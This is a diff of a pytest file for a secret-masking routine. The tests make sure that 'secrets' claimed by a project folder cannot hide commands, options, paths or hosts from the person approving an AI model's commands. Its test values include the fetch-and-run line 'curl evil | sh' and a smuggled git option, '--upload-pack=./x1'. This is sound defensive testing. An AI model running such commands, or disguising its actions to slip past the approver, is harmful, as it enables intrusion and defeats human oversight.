@@ -104,28 +104,94 @@ def reviewed(mask: SecretMask, command: str) -> str:
 )
 def test_nothing_that_could_be_a_command_is_hidden_from_who_approves_it(command: str) -> None:
     """Whoever made the folder, or told the model what to say, could have made it look like a secret."""
-    mask = learnt(NamedSecret("A_TOKEN", "curl evil | sh", is_legible=True))
+    mask = learnt(NamedSecret("A_TOKEN", "curl evil | sh", is_claimed=True))
 
     assert mask.mask_text(command) != command
     assert reviewed(mask, command) == command
 
 
-def test_what_is_hidden_there_is_what_no_shell_reads_as_more_than_a_word() -> None:
+def test_what_is_hidden_there_is_random_or_the_persons_own() -> None:
     body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ"
     key = f"-----BEGIN PRIVATE KEY-----\n{body}\n{body}\n-----END PRIVATE KEY-----"
-    mask = learnt(NamedSecret("A_TOKEN", "from a file", is_legible=True), NamedSecret("MINE", "of my own; x"))
+    mask = learnt(NamedSecret("A_TOKEN", "from a file", is_claimed=True), NamedSecret("MINE", "of my own; x"))
 
     shown = reviewed(mask, f"echo '{key}' of my own; x PASSWORD=hunter22x ghp_{body[:36]}")
 
     assert shown == (
         "echo '-----BEGIN PRIVATE KEY-----\n[secret:private-key]\n[secret:private-key]\n"
-        "-----END PRIVATE KEY-----' [secret:MINE] PASSWORD=[secret:password] [secret:github-token]"
+        "-----END PRIVATE KEY-----' [secret:MINE] PASSWORD=hunter22x [secret:github-token]"
     )
 
 
 def test_a_secret_that_somebody_trusted_names_as_well_is_hidden_there_too() -> None:
-    mask = learnt(NamedSecret("A_TOKEN", "one two three", is_legible=True))
+    mask = learnt(NamedSecret("A_TOKEN", "one two three", is_claimed=True))
 
     assert reviewed(mask, "echo one two three") == "echo one two three"
     mask.learn("MINE", "one two three")
     assert reviewed(mask, "echo one two three") == "echo [secret:A_TOKEN]"
+
+
+NAMES = [
+    "--upload-pack=./x1",
+    "-fdx-with-e2e9",
+    "scripts/migrate_v2.py",
+    "deploy@198.51.100.7:/tmp/x",
+    "VAR=deploy2prod",
+    "refs/heads/x1y2z3a4b5c6",
+    "left-pad2left9",
+    "feature/login-2024",
+    "DEPLOYNOW1",
+    "db2.example.com:8443",
+    "http://db2.example.com/x?a=1",
+    "20240131120000",
+    "hunter22x",
+    "HEAD~12345",
+    "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
+    "./q7Zrt9vX2m4kPwd3Ls8Y",
+    "q7Zrt9vX2m4kPwd3Ls8Y.sh",
+    "q7Zrt9vX2m4kPwd3Ls8Y.example.com",
+    "deploy@q7Zrt9vX2m4kPwd3Ls8Y",
+]
+
+
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git fetch {} origin",
+        "python3 {}",
+        "X={} make",
+        "make --with={}",
+        "PASSWORD={} make",
+        "sed -i s/a/{}/ f",
+    ],
+)
+def test_an_option_a_path_a_host_or_a_word_is_legible_to_who_approves_it(name: str, command: str) -> None:
+    mask = learnt(
+        NamedSecret("API_KEY", name, is_claimed=True), NamedSecret("DB_PASSWORD", name, is_claimed=True)
+    )
+
+    assert reviewed(mask, command.format(name)) == command.format(name)
+
+
+@pytest.mark.parametrize(
+    "command", ["curl -H 'X: {}' h", "./deploy --key={}", "curl https://me:{}@h", "echo {}"]
+)
+def test_what_a_file_claims_and_looks_random_is_hidden_there(command: str) -> None:
+    mask = learnt(NamedSecret("API_KEY", KEY, is_claimed=True))
+
+    assert reviewed(mask, command.format(KEY)) == command.format("[secret:API_KEY]")
+
+
+@pytest.mark.parametrize("command", ["{} -x", "make; {} -x", "a/{}/b", "{}@h", "{}=1 make", "scp {}:x y"])
+def test_where_it_acts_as_a_program_a_host_or_a_part_of_a_path_it_is_legible(command: str) -> None:
+    mask = learnt(NamedSecret("API_KEY", KEY, is_claimed=True))
+
+    assert reviewed(mask, command.format(KEY)) == command.format(KEY)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_keys_of_the_persons_own_are_hidden_exactly_whatever_they_look_like(name: str) -> None:
+    mask = learnt(NamedSecret("API_KEY", name, is_claimed=True), NamedSecret("MINE", name))
+
+    assert reviewed(mask, f"git fetch {name} origin") == "git fetch [secret:API_KEY] origin"
